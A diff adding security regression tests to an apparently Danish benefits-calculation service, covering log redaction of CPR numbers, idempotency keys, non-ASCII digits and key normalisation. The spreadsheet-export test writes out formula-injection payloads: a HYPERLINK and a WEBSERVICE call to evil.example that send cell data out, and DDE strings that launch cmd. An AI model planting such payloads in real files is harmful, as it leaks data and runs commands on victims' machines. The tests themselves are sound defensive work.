@@ -1,0 +1,138 @@
+"""Defects an attack pass found, each attacked here the way the attacker did (SECURITY.md lists them)."""
+
+from __future__ import annotations
+
+import logging
+from pathlib import Path
+
+import pytest
+from fastapi.testclient import TestClient
+
+from api.app import create_app
+from flexcalc.db import session_factory, upgrade
+from flexcalc.errors import InputError
+from flexcalc.security.keys import KEY_CACHE, create_key
+from flexcalc.security.redact import redact_record
+
+ROOT = Path(__file__).resolve().parents[2]
+CPR = "0101901234"
+
+
+# --- CPR numbers URL-encoded in the access log ----------------------------------------------------
+
+@pytest.mark.parametrize("path", ["/v1/cases/010190%201234", "/v1/cases/010190%2D1234", "/v1/cases/010190%2d1234",
+                                  "/v1/cases?case_id=010190+1234", "/v1/cases/%30%31%30%31%39%30%31%32%33%34",
+                                  "/v1/cases/0101901234"])
+def test_an_url_encoded_cpr_number_is_redacted_in_the_access_log(path: str) -> None:
+    # the record exactly as uvicorn's access logger makes it: (client, method, path with query, version, status)
+    record = logging.LogRecord("uvicorn.access", logging.INFO, __file__, 1, '%s - "%s %s HTTP/%s" %d',
+                               ("127.0.0.1:5000", "GET", path, "1.1", 422), None)
+    line = logging.Formatter("%(message)s").format(redact_record(record))
+    assert "[CPR]" in line
+    digits = "".join(ch for ch in line.replace("127.0.0.1:5000", "").replace("HTTP/1.1", "") if ch.isdigit())
+    assert "1234" not in digits and "010190" not in digits, line
+    assert line.endswith(" 422")  # the status stays a number for uvicorn's formatter
+
+
+def test_text_with_plus_or_percent_but_no_cpr_is_kept() -> None:
+    record = logging.LogRecord("uvicorn.access", logging.INFO, __file__, 1, "%s", ("/v1/x?q=a+b&p=50%25",), None)
+    assert redact_record(record).getMessage() == "/v1/x?q=a+b&p=50%25"
+
+
+# --- spreadsheet formula injection in `flexcalc finance --xlsx` -----------------------------------
+
+def test_a_statement_person_written_as_a_formula_stays_text_in_the_workbook(sqlite_url: str, tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    from tests.finance.test_finance_report import FINANCE, SCENARIOS, replay, run
+
+    replay(SCENARIOS / "late_report", sqlite_url)
+    statement = tmp_path / "statement.csv"
+    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "=WEBSERVICE(\"http://evil.example\")",
+               "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
+    rows = ["person,period_start,period_end,benefit,amount,refund"]
+    rows += [f'"{a.replace(chr(34), chr(34) * 2)}",2024-03-01,2024-03-31,fleksloentilskud,9000.00,3600.00'
+             for a in attacks]
+    statement.write_text("\n".join(rows) + "\n", encoding="utf-8")
+    path = tmp_path / "finance.xlsx"
+    run(sqlite_url, "finance", "2024-03", "--xlsx", str(path), "--profiles", str(FINANCE / "profiles.csv"),
+        "--statement", str(statement))
+    sheet = load_workbook(path)["Afvigelser"]
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [c for c in cells if c.data_type == "f"] == []  # no formula anywhere
+    people = [row[0].value for row in sheet.iter_rows(min_row=2)]
+    assert sorted(p for p in people if p != "S1") == sorted("'" + a for a in attacks)  # S1: paid, not in it
+    # a plain negative amount written as text is still a number-looking text, not escaped
+    from flexcalc.finance.export import _is_formula_like
+
+    assert not _is_formula_like("-120.00") and _is_formula_like("-1+cmd|' /C calc'!A0")
+    assert _is_formula_like("\t=1") and _is_formula_like("\r=1")
+
+
+# --- Idempotency-Key: the fingerprint includes the query string -----------------------------------
+
+def test_the_same_idempotency_key_with_another_query_is_refused_not_replayed(sqlite_url: str,
+                                                                              monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("FLEXCALC_DATABASE_URL", sqlite_url)
+    upgrade(sqlite_url)
+    KEY_CACHE.clear()
+    with session_factory(sqlite_url).begin() as session:
+        _, secret = create_key(session, "caseworker")
+    client = TestClient(create_app())
+    headers = {"Authorization": f"Bearer {secret}", "Idempotency-Key": "q-1"}
+    body = {"case_id": "Q1", "ceiling": "32067", "first_month": "2024-03"}
+    first = client.post("/v1/cases?as_of=2024-03-01", json=body, headers=headers)
+    assert first.status_code == 201, first.text
+    same = client.post("/v1/cases?as_of=2024-03-01", json=body, headers=headers)
+    assert same.status_code == 201 and same.headers["idempotent-replayed"] == "true"
+    other = client.post("/v1/cases?as_of=2025-01-01", json=body, headers=headers)
+    assert other.status_code == 422 and other.json()["errors"][0]["field"] == "Idempotency-Key"
+    KEY_CACHE.clear()
+
+
+# --- non-ASCII digits ------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("month", ["２０２４-03", "2024-０３", "٢٠٢٤-03", "2024-0３"])
+def test_non_ascii_digits_in_a_month_are_refused_everywhere(month: str) -> None:
+    from flexcalc.period import Month
+
+    with pytest.raises(InputError):
+        Month.parse(month)
+    client = TestClient(create_app())
+    answer = client.post("/v1/calculations", json={"month": month, "wage": "15600", "ceiling": "32067"})
+    assert answer.status_code == 422
+    assert answer.json()["errors"][0]["field"] == "month"
+
+
+@pytest.mark.parametrize("weeks", ["１２", "٣", "12\u0663"])
+def test_non_ascii_digits_in_weeks_before_are_refused(weeks: str) -> None:
+    from flexcalc.finance.ladder import check_weeks_before
+
+    with pytest.raises(InputError) as raised:
+        check_weeks_before(weeks)
+    assert raised.value.field == "weeks_before"
+    assert check_weeks_before("12") == 12
+
+
+# --- identifiers normalised at key creation -------------------------------------------------------
+
+def test_a_citizen_key_for_a_case_typed_with_spaces_reads_its_case(sqlite_url: str,
+                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("FLEXCALC_DATABASE_URL", sqlite_url)
+    upgrade(sqlite_url)
+    KEY_CACHE.clear()
+    with session_factory(sqlite_url).begin() as session:
+        _, caseworker = create_key(session, "caseworker")
+        row, citizen = create_key(session, "citizen", case_id="A1 ")
+        assert row.case_id == "A1"
+        employer_row, _ = create_key(session, "employer", employer_cvr=" 12345678 ")
+        assert employer_row.employer_cvr == "12345678"
+        with pytest.raises(InputError):
+            create_key(session, "citizen", case_id=" 010190-1234 ")  # a CPR number stays refused
+    client = TestClient(create_app())
+    made = client.post("/v1/cases", json={"case_id": "A1", "ceiling": "32067", "first_month": "2024-03"},
+                       headers={"Authorization": f"Bearer {caseworker}"})
+    assert made.status_code == 201, made.text
+    own = client.get("/v1/cases/A1", headers={"Authorization": f"Bearer {citizen}"})
+    assert own.status_code == 200, own.text
+    KEY_CACHE.clear()
